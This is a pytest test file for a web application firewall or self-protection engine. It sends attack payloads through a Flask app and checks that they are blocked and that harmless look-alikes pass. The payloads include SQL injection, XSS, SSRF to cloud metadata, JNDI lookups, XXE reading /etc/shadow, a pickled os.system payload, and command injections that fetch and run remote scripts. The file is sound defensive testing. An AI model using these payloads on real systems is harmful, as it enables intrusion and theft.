"""Every attack class through a real Flask app: refused in the query, a JSON body, a cookie and
a base64-encoded JSON field; benign look-alikes of each class pass in the same places."""

from __future__ import annotations

import json

import pytest

from conftest import Client, b64, send

# One ordinary payload per class, as scanners and exploit kits send them.
ATTACKS = {
    "sqli": "1' OR '1'='1' --",
    "xss": "<img src=x onerror=alert(document.domain)>",
    "path_traversal": "../../../../etc/passwd",
    "cmdi": "x && curl http://203.0.113.9/s.sh | sh",
    "ssrf": "http://169.254.169.254/latest/meta-data/iam/",
    "ssti": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "nosqli": '{"$where": "sleep(5000)"}',
    "jndi": "${jndi:ldap://203.0.113.9:1389/a}",
    "xxe": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/shadow">]><r>&x;</r>',
    "ldapi": "*)(uid=*))(|(uid=*",
    "crlf": "en\r\nSet-Cookie: session=attacker",
    "rfi": "http://203.0.113.9/shell.txt?",
    "code_injection": "__import__('os').system('id')",
}

# Where each location's values are reported (the base64 field is a JSON value, decoded).
KIND = {
    "query": "qs_values",
    "json": "json_values",
    "cookie": "cookies_values",
    "base64_json": "json_values",
}

# Text that shares each class's syntax without being an attack.
BENIGN = {
    "sqli": [
        "O'Brien's order",
        "Please select the size or colour you like",
        # Titles and headers that name a T-SQL statement or a wait function.
        "Exec Summary (final).docx",
        "Sleep (album)",
        'Re: "Order #1234" -- wrong item',
    ],
    "xss": [
        '<p>Hi <em>there</em>, see <a href="https://example.com/">this</a></p>',
        "a < b and c > d",
        # A placeholder in angle brackets.
        "<name>",
    ],
    "path_traversal": ["docs/guide-2.pdf", "../README.md is one level up"],
    "cmdi": [
        "Tom & Jerry; season 2",
        "cat toys | dog toys",
        # A form key in brackets, a prefix search, a mail-merge field.
        "user[password]",
        "user*",
        "%FIRST_NAME%",
    ],
    "ssrf": [
        "https://example.com/img/logo.png",
        "server at 192.0.2.10 port 80",
        # A device's address in a router or cloud admin form: a setting, not a fetch target.
        "192.168.1.10",
        # Sizes, prices, versions and dates.
        "10.5",
        "127.50",
        "10.05.2024",
    ],
    "ssti": ["Dear {name}, thanks!", "Total: ${total} (incl. VAT)"],
    "nosqli": [
        "$5 off your first order",
        "price: $gt 10",
        "query Products($where: ProductWhere) { products(where: $where) { id } }",
    ],
    "jndi": ["costs ${price}", "JNDI lookups are blocked"],
    "xxe": [
        "<note><to>Ann</to><body>Hi</body></note>",
        '<?xml version="1.0"?><a>1</a>',
        # A screenshot pasted into a rich-text editor.
        '<p><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ"></p>',
    ],
    "ldapi": ["(555) 123-4567", "name=*smith*"],
    "crlf": ["line one\nline two", "Dear Ann,\r\nthanks for your order."],
    "rfi": ["https://cdn.example.com/app.js", "see http://example.org/page?id=5"],
    "code_injection": [
        "system design (part 2)",
        "Set $HOME (your home directory) first",
        "Hello $name ($role)",
        "{{ $t('checkout.title') }}",
    ],
}


def test_every_class_is_covered():
    from ironrasp import Engine

    # The classes the engine inspects values for (request-level checks such as floods and
    # decoys are tested elsewhere).
    value_classes = {
        "sqli",
        "xss",
        "path_traversal",
        "cmdi",
        "ssrf",
        "ssti",
        "nosqli",
        "jndi",
        "xxe",
        "ldapi",
        "crlf",
        "rfi",
        "code_injection",
    }
    assert set(ATTACKS) == set(BENIGN) == value_classes
    engine = Engine()
    for check, payload in ATTACKS.items():
        assert check in {f["class"] for f in engine.scan_value(payload)}, check


@pytest.mark.parametrize("where", list(KIND))
@pytest.mark.parametrize("check", list(ATTACKS))
def test_each_class_is_refused_in_each_location(app, check, where):
    client = Client(app)
    r = send(client, where, ATTACKS[check])
    assert r.status_code == 403, (check, where, r.data)
    ev = [e for e in client.events() if e["type"] == check]
    assert ev, (check, where, client.events())
    e = ev[0]
    assert e["action"] == "block"
    assert e["client"] == client.ip
    assert e["location"]["kind"] == KIND[where]
    if where == "base64_json":
        assert e["decoders"][0] == "base64", e
        assert e["location"]["name"] == "$.blob"


@pytest.mark.parametrize("check", list(BENIGN))
def test_benign_look_alikes_of_each_class_pass_everywhere(app, check):
    for text in BENIGN[check]:
        for where in KIND:
            client = Client(app)
            r = send(client, where, text)
            assert r.status_code == 200, (check, where, text, client.events())
            if where == "query":
                assert r.get_json()["q"] == [text]
    assert Client(app).events() == []


@pytest.mark.parametrize(
    "send_it,kind",
    [
        (lambda c: c.get("/search?user=admin&password[$ne]=x"), "qs_names"),
        (
            lambda c: c.post("/submit", json={"user": "admin", "password": {"$ne": None}}),
            "json_keys",
        ),
        (lambda c: c.post("/submit", json={"user": {"$regex": "^adm"}}), "json_keys"),
        (
            lambda c: c.post("/submit", json={"blob": b64(json.dumps({"user": {"$gt": ""}}))}),
            "json_values",
        ),
    ],
    ids=["query_bracket_name", "json_ne_key", "json_regex_key", "base64_json_gt_key"],
)
def test_nosql_operators_as_names_and_keys_are_refused(app, send_it, kind):
    client = Client(app)
    assert send_it(client).status_code == 403
    ev = [e for e in client.events() if e["type"] == "nosqli"]
    assert ev and ev[0]["location"]["kind"] == kind, client.events()


def test_ordinary_dollar_keys_and_values_pass(app):
    client = Client(app)
    body = {"price": "$5", "note": "$ne is not a word", "currency": {"symbol": "$"}}
    r = client.post("/submit", json=body)
    assert r.status_code == 200
    assert r.get_json()["json"] == body
    assert client.events() == []


# Evasions found by red-team probes outside the datasets (session 18), each where it is sent:
# (class, location, payload).
EVASIONS = [
    ("sqli", "query", "1 or true"),
    ("sqli", "query", "id` or 1=1#"),
    ("sqli", "form", "admin' LIMIT 1-- -"),
    ("xss", "query", "'-print()-'"),
    ("ssrf", "query", "//169.254.169.254/latest/meta-data/"),
    ("ssrf", "json", "http://kubernetes.default.svc/api/v1/secrets"),
    ("crlf", "form", "ann@example.com\r\nBcc: list@victim.example"),
    ("code_injection", "cookie", "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="),
    ("code_injection", "form", "!!python/object/apply:os.system ['id']"),
    ("cmdi", "json", "iex (New-Object Net.WebClient).DownloadString('http://a.example/x.ps1')"),
    ("cmdi", "query", "x & C:\\Windows\\System32\\whoami.exe"),
    ("cmdi", "form", "x; w`h`o`a`m`i"),
    ("sqli", "query", "(CASE WHEN 1=1 THEN id ELSE name END)"),
    ("sqli", "form", "a', 1) -- "),
]

# Their look-alikes, which pass.
EVASION_LOOK_ALIKES = [
    "1 or 2",
    "use `pip` or `uv`",
    "[Alert](https://status.example.com)",
    "\\\\fileserver\\docs\\q3.xlsx",
    "From: ann@example.com\nTo: bob@example.com\nSubject: hello",
    "point: !!python/tuple [1, 2]",
    "IEX (Investors Exchange) listed the shares",
    "iex(1)> Enum.sum([1, 2])",
    "Tom & @jerry",
    "In case of rain, when it starts, then we stop",
]


@pytest.mark.parametrize("check,where,payload", EVASIONS, ids=[e[2][:24] for e in EVASIONS])
def test_evasions_found_outside_the_datasets_are_refused(app, check, where, payload):
    client = Client(app)
    r = send(client, where, payload)
    assert r.status_code == 403, (check, where, payload, r.data)
    assert check in {e["type"] for e in client.events()}, client.events()


def test_look_alikes_of_those_evasions_pass(app):
    for text in EVASION_LOOK_ALIKES:
        for where in ("query", "form", "json", "cookie"):
            client = Client(app)
            r = send(client, where, text)
            assert r.status_code == 200, (where, text, client.events())
            assert client.events() == [], (where, text)


def test_latin1_no_break_space_in_a_raw_query_is_a_space(app):
    # `%A0` is not UTF-8: read as Latin-1 it is the no-break space MySQL skips like a space.
    client = Client(app)
    r = client.get("/search?q=1%A0UNION%A0SELECT%A0password%A0FROM%A0users")
    assert r.status_code == 403, client.events()
    assert "sqli" in {e["type"] for e in client.events()}
    # Spanish words sent in Latin-1 pass (the events file is the app's: this client's only).
    client = Client(app)
    r = client.get("/search?q=Cami%F3n%20de%20Espa%F1a")
    mine = [e for e in client.events() if e["client"] == client.ip]
    assert r.status_code == 200 and mine == [], mine


def test_orm_lookup_keys_that_leak_a_secret_are_refused(app):
    # Django's `filter(**request.data)`: the client names the field, the relations and the
    # lookup. A path to a secret, or through more relations than a filter exposes, is refused.
    for body in (
        {"created_by__password__startswith": "pbkdf2_sha256$"},
        {"created_by__departments__employees__user__username__startswith": "p"},
    ):
        client = Client(app)
        r = client.post("/submit", json=body)
        assert r.status_code == 403, (body, client.events())
        assert "sqli" in {e["type"] for e in client.events() if e["client"] == client.ip}
    client = Client(app)
    r = client.get("/search?user__reset_token__gte=a")
    assert r.status_code == 403
    # The filters a filter set exposes on purpose pass, as keys and in the query.
    client = Client(app)
    r = client.post("/submit", json={"author__name__icontains": "smith", "price__gte": 10})
    assert r.status_code == 200
    r = client.get("/search?category__parent__slug__exact=shoes&created_at__date__gte=2026-01-01")
    assert r.status_code == 200
    assert [e for e in client.events() if e["client"] == client.ip] == []


def test_update_operator_in_a_json_body_is_refused(app):
    client = Client(app)
    r = client.post("/submit", json={"$set": {"isAdmin": True}})
    assert r.status_code == 403
    ev = [e for e in client.events() if e["type"] == "nosqli"]
    assert ev and ev[0]["location"]["kind"] == "json_keys", client.events()
